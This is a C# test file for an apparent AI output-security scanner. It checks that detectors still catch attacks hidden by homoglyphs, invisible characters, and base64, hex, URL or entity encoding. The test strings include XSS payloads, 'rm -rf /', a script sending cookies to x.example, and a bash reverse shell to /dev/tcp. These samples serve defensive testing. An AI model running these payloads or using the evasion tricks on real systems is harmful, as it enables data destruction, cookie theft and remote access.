using System.Text;

namespace AiSpm.Detection.Tests.Normalization;

/// <summary>Homoglyphs, invisible characters and encodings do not hide an attack, and spans still point at the original bytes.</summary>
public class EvasionTests
{
    public static TheoryData<string> Engines => Inspectors.Engines;

    private static void AssertCategory(string engine, string text, string category)
    {
        var inspector = Inspectors.For(engine);
        var findings = Inspectors.Scan(inspector, text, ScanPhase.Response);
        Assert.Contains(category, Inspectors.Categories(inspector, findings));
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public void CyrillicAndGreekHomoglyphsAreFolded(string engine)
    {
        AssertCategory(engine, "<\u0455\u0441ript>alert(1)</script>", "insecure_output");
        AssertCategory(engine, "r\u043C -rf /", "insecure_output");
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public void FullwidthFormsAreFolded(string engine) =>
        AssertCategory(engine, "\uFF1Cscript\uFF1Ealert(1)", "insecure_output");

    [Theory]
    [MemberData(nameof(Engines))]
    public void ZeroWidthAndBidiControlsAreRemoved(string engine)
    {
        AssertCategory(engine, "<scr\u200Bipt>alert(1)</scr\u200Dipt>", "insecure_output");
        AssertCategory(engine, "AK\u200BIA" + TestTokens.AwsKeyId[4..], "secret");
        AssertCategory(engine, "rm\u202E -rf /", "insecure_output");
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public void Base64PayloadIsDecodedAndScanned(string engine)
    {
        var payload = Convert.ToBase64String(Encoding.UTF8.GetBytes("<script>document.location='http://x.example/'+document.cookie</script>"));
        AssertCategory(engine, "Render this: " + payload, "insecure_output");
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public void HexUrlAndHtmlEntityPayloadsAreDecoded(string engine)
    {
        AssertCategory(engine, "data " + Convert.ToHexString(Encoding.UTF8.GetBytes("bash -i >& /dev/tcp/198.51.100.7/9001 0>&1")), "insecure_output");
        AssertCategory(engine, "go to /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "insecure_output");
        AssertCategory(engine, "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", "insecure_output");
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public void SpanMapsBackToTheOriginalBytes(string engine)
    {
        var inspector = Inspectors.For(engine);
        var key = TestTokens.AwsKeyId;
        var text = "prefix \u00e9\u00e9 AK\u200BIA" + key[4..] + " suffix";
        var bytes = Encoding.UTF8.GetBytes(text);
        var findings = new FindingList();
        inspector.ScanText(bytes, ScanPhase.Response, findings);
        var f = Assert.Single(findings.AsSpan().ToArray(), x => inspector.Rules[x.RuleIndex].Id == "SEC-AWS-AKID");
        Assert.Equal("AK\u200BIA" + key[4..], Encoding.UTF8.GetString(bytes, f.Start, f.End - f.Start));
    }
}
